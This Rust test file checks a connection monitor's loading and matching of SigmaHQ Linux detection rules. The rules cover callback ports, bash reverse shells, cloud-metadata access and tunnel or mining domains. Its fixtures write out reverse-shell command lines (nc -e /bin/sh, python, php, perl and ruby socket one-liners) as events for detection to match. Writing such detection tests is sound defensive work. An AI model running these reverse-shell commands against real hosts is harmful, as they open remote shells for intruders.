//! SigmaHQ's Linux network_connection rules (tests/fixtures/sigma-linux-network, unmodified): all
//! load; the ones on fields the monitor fills fire on matching events and not on
//! near-misses; the tab-indented file in broken/ fails with its file and line.

#[path = "fixtures/rules/support.rs"]
mod support;

use std::path::PathBuf;
use std::sync::Arc;

use monitor::rules::{RuleError, RuleSet, check};
use support::{ev, matches, sigmahq_rules_dir};

const CALLBACK: &str = "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376";
const BACK_CONNECT: &str = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871";
const REV_SHELL: &str = "6104e693-a7d6-4891-86cb-49a258523559";
const METADATA: &str = "6c1f4d8a-2e5b-4c9f-a7d3-0b5e8f1c4a6d";

fn rule_files() -> Vec<PathBuf> {
    let dir = sigmahq_rules_dir();
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "yml"))
        .collect();
    files.sort();
    assert_eq!(
        files.len(),
        9,
        "expected the 9 SigmaHQ rules in {}",
        dir.display()
    );
    files
}

fn sigmahq() -> Arc<RuleSet> {
    Arc::new(
        RuleSet::load(&rule_files())
            .expect("every SigmaHQ rule loads")
            .rules,
    )
}

fn fires(set: &Arc<RuleSet>, rec: &monitor::record::ConnectionRecord, id: &str) -> bool {
    matches(set, rec).iter().any(|m| m == id)
}

#[test]
fn every_rule_loads_unmodified_one_by_one_and_together() {
    for f in rule_files() {
        let rep = RuleSet::load(std::slice::from_ref(&f))
            .unwrap_or_else(|e| panic!("{} does not load: {e}", f.display()));
        assert_eq!(rep.rules.len(), 1, "{}", f.display());
        assert!(rep.notices.is_empty(), "{:?}", rep.notices);
    }
    assert_eq!(sigmahq().len(), 9);
}

/// `DestinationHostname` is `destination.domain` (issue #13): the five rules that test it
/// load without a warning about it, fire on the names they list and not on near misses
/// or on connections without a name.
#[test]
fn hostname_rules_match_destination_domain() {
    let rep = RuleSet::load(&rule_files()).unwrap();
    assert!(
        !rep.warnings
            .iter()
            .any(|w| w.contains("DestinationHostname")),
        "{:#?}",
        rep.warnings
    );
    let report = check(&rule_files());
    assert!(report.is_ok(), "{:?}", report.errors);
    assert_eq!(report.exit_code(), 0);
    let set = sigmahq();
    let named = |name: &str| {
        let mut rec = ev().image("/usr/bin/curl").dst("203.0.113.7", 443).build();
        rec.domain = Some(name.into());
        rec.domain_source = Some(monitor::record::DomainSource::Process);
        rec
    };
    for name in [
        "ovz1.j19544519.pr46m.vps.myjino.ru",
        "pool.minexmr.com",
        "app.localto.net",
        "x.tunnel.eu.ngrok.com",
        "abc.oast.fun",
    ] {
        assert!(!matches(&set, &named(name)).is_empty(), "{name}");
    }
    for name in [
        "vps.myjino.ru",
        "pool.minexmr.com.example",
        "localto.net",
        "ngrok.com",
        "oast-fun.example",
    ] {
        assert!(matches(&set, &named(name)).is_empty(), "{name}");
    }
    // No name, no match.
    let rec = ev().image("/usr/bin/xmrig").dst("203.0.113.7", 443).build();
    assert!(matches(&set, &rec).is_empty());
}

#[test]
fn malware_callback_port() {
    let set = sigmahq();
    for port in [888, 999, 2200, 2222, 4000, 4444, 6789, 8531, 50501, 51820] {
        assert!(
            fires(&set, &ev().dst("203.0.113.7", port).build(), CALLBACK),
            "port {port}"
        );
    }
    assert!(fires(
        &set,
        &ev().dst("2001:db8::7", 4444).build(),
        CALLBACK
    ));
    // Near misses: other ports, and every filtered range (IPv4, IPv6, mapped).
    for port in [887, 4445, 22, 8088] {
        assert!(
            !fires(&set, &ev().dst("203.0.113.7", port).build(), CALLBACK),
            "{port}"
        );
    }
    for ip in [
        "127.0.0.1",
        "10.1.1.1",
        "172.20.0.1",
        "192.168.7.7",
        "169.254.1.1",
        "::1",
        "fe80::1",
        "fd00::1",
        "::ffff:192.168.7.7",
    ] {
        assert!(!fires(&set, &ev().dst(ip, 4444).build(), CALLBACK), "{ip}");
    }
}

#[test]
fn reverse_shell_indicator_bash_to_remote_address() {
    let set = sigmahq();
    assert!(fires(
        &set,
        &ev().image("/usr/bin/bash").dst("203.0.113.7", 4242).build(),
        BACK_CONNECT
    ));
    assert!(fires(
        &set,
        &ev().image("/bin/bash").dst("10.0.0.1", 4242).build(),
        BACK_CONNECT
    ));
    // Near misses: the filtered addresses, and shells that are not bash.
    for ip in ["127.0.0.1", "0.0.0.0", "::ffff:127.0.0.1"] {
        assert!(!fires(
            &set,
            &ev().image("/usr/bin/bash").dst(ip, 4242).build(),
            BACK_CONNECT
        ));
    }
    for exe in ["/usr/bin/rbash", "/usr/bin/dash", "/usr/bin/bash5"] {
        assert!(!fires(
            &set,
            &ev().image(exe).dst("203.0.113.7", 4242).build(),
            BACK_CONNECT
        ));
    }
}

#[test]
fn reverse_shell_process_args() {
    let set = sigmahq();
    let dst = |e: support::Ev| e.dst("203.0.113.7", 4444).build();
    let positives = [
        ("/usr/bin/bash", vec!["bash", "-i"]),
        (
            "/usr/bin/python3.11",
            vec![
                "python3",
                "-c",
                "import socket,os;s=socket.socket();s.connect(('203.0.113.7',4444))",
            ],
        ),
        (
            "/usr/bin/php8.2",
            vec!["php", "-r", "$sock=fsockopen('203.0.113.7',4444);"],
        ),
        (
            "/usr/bin/nc.traditional",
            vec!["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
        ),
        (
            "/usr/bin/perl",
            vec![
                "perl",
                "-e",
                "use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,0)",
            ],
        ),
        (
            "/usr/bin/ruby3.1",
            vec!["ruby", "-rsocket -e f=TCPSocket.open(\"203.0.113.7\",4444)"],
        ),
        ("/usr/bin/xterm", vec!["xterm", "-display", "203.0.113.7:1"]),
    ];
    for (exe, args) in &positives {
        let rec = dst(ev().image(exe).args(args));
        assert!(fires(&set, &rec, REV_SHELL), "{exe} {args:?}");
    }
    let near_misses = [
        ("/usr/bin/bash", vec!["bash", "-c", "ls"]),
        (
            "/usr/bin/python3.11",
            vec!["python3", "-c", "print('no socket')"],
        ),
        (
            "/usr/bin/python3.11",
            vec!["python3", "server.py", "connect"],
        ),
        ("/usr/bin/php8.2", vec!["php", "-r", "echo 1;"]),
        ("/usr/bin/nc.traditional", vec!["nc", "-l", "-p", "4444"]),
        ("/usr/bin/perl", vec!["perl", "-e", "use Socket; print 1"]),
        ("/usr/bin/ruby3.1", vec!["ruby", "-e", "TCPSocket.new"]),
        ("/usr/bin/xterm", vec!["xterm", "-display", ":0"]),
        // The right arguments on the wrong executable.
        ("/usr/bin/curl", vec!["curl", "-i"]),
    ];
    for (exe, args) in &near_misses {
        let rec = dst(ev().image(exe).args(args));
        assert!(!fires(&set, &rec, REV_SHELL), "{exe} {args:?}");
    }
}

#[test]
fn cloud_metadata_access_by_script_interpreters() {
    let set = sigmahq();
    for exe in [
        "/usr/bin/python3.11",
        "/usr/local/bin/node",
        "/home/u/.bun/bin/bun",
    ] {
        for ip in ["169.254.169.254", "169.254.170.2"] {
            assert!(
                fires(&set, &ev().image(exe).dst(ip, 80).build(), METADATA),
                "{exe} {ip}"
            );
        }
    }
    assert!(!fires(
        &set,
        &ev()
            .image("/usr/bin/curl")
            .dst("169.254.169.254", 80)
            .build(),
        METADATA
    ));
    assert!(!fires(
        &set,
        &ev()
            .image("/usr/bin/python3.11")
            .dst("169.254.169.253", 80)
            .build(),
        METADATA
    ));
    assert!(!fires(
        &set,
        &ev()
            .image("/usr/bin/nodejs")
            .dst("169.254.169.254", 80)
            .build(),
        METADATA
    ));
}

#[test]
fn initiated_as_boolean_and_as_string_both_match() {
    // The callback rule writes `Initiated: 'true'`, the metadata rule `Initiated: true`.
    let set = sigmahq();
    assert!(fires(
        &set,
        &ev().dst("203.0.113.7", 4444).build(),
        CALLBACK
    ));
    assert!(fires(
        &set,
        &ev()
            .image("/usr/bin/python3")
            .dst("169.254.169.254", 80)
            .build(),
        METADATA
    ));
}

fn broken_file() -> PathBuf {
    sigmahq_rules_dir().join("broken/net_connection_lnx_localtonet_tunnel_tab_indent.yml")
}

fn tab_line() -> u32 {
    let text = std::fs::read_to_string(broken_file()).unwrap();
    text.lines()
        .position(|l| l.starts_with('\t'))
        .expect("a tab-indented line") as u32
        + 1
}

#[test]
fn tab_indented_file_fails_with_file_and_line() {
    let err = RuleSet::load(&[broken_file()]).unwrap_err();
    let msg = err.to_string();
    assert!(
        msg.contains("net_connection_lnx_localtonet_tunnel_tab_indent.yml"),
        "{msg}"
    );
    assert!(msg.contains(&format!(":{}:", tab_line())), "{msg}");
    assert!(msg.contains("tab"), "{msg}");
    assert_eq!(err.line(), Some(tab_line()));
    assert!(matches!(err, RuleError::Yaml { .. }));
}

#[test]
fn broken_file_in_a_directory_fails_strict_load_and_is_skipped_when_lenient() {
    let dir = sigmahq_rules_dir();
    let err = RuleSet::load(std::slice::from_ref(&dir)).unwrap_err();
    assert!(err.to_string().contains("tab_indent.yml"), "{err}");
    let rep = RuleSet::load_lenient(&[dir]);
    assert_eq!(rep.rules.len(), 9, "the valid rules still load");
    assert_eq!(rep.skipped.len(), 1);
    assert_eq!(rep.skipped[0].line(), Some(tab_line()));
}

#[test]
fn check_exits_2_on_the_broken_file_and_names_it() {
    let report = check(&[broken_file()]);
    assert_eq!(report.exit_code(), 2);
    assert_eq!(report.errors.len(), 1);
    let e = report.errors[0].to_string();
    assert!(
        e.contains("tab_indent.yml") && e.contains(&tab_line().to_string()),
        "{e}"
    );
}

#[test]
fn rule_index_never_drops_a_matching_rule() {
    // The index picks candidate rules by destination port and string anchors; evaluating
    // every rule must give the same result on a varied set of events.
    let mut paths = rule_files();
    paths.push(support::repo_rules_dir());
    let set = Arc::new(RuleSet::load(&paths).unwrap().rules);
    let mut engine = monitor::rules::RuleEngine::new(Arc::clone(&set));
    let images = [
        "/usr/bin/bash",
        "/usr/bin/python3.11",
        "/usr/bin/curl",
        "/usr/bin/nc.openbsd",
        "/usr/bin/vim.basic",
        "/usr/sbin/sshd",
        "/usr/lib/firefox-esr/firefox-esr",
        "/usr/local/bin/node",
    ];
    let args: [&[&str]; 4] = [
        &["x"],
        &["bash", "-i"],
        &["python3", "-c", "s.connect(('203.0.113.7',4444))"],
        &["nc", "-e", "/bin/sh"],
    ];
    let dsts = [
        ("203.0.113.7", 443),
        ("203.0.113.7", 4444),
        ("203.0.113.7", 8088),
        ("203.0.113.7", 5555),
        ("10.0.0.5", 22),
        ("169.254.169.254", 80),
        ("127.0.0.1", 4444),
        ("2001:db8::7", 31337),
    ];
    let mut fired = 0;
    for img in images {
        for a in args {
            for (ip, port) in dsts {
                let rec = ev().image(img).args(a).dst(ip, port).build();
                let indexed = engine.matching_rule_ids(&rec);
                let full = engine.matching_rule_ids_unindexed(&rec);
                assert_eq!(indexed, full, "{img} {a:?} {ip}:{port}");
                fired += full.len();
            }
        }
    }
    assert!(
        fired > 100,
        "the events exercise the rules ({fired} matches)"
    );
}
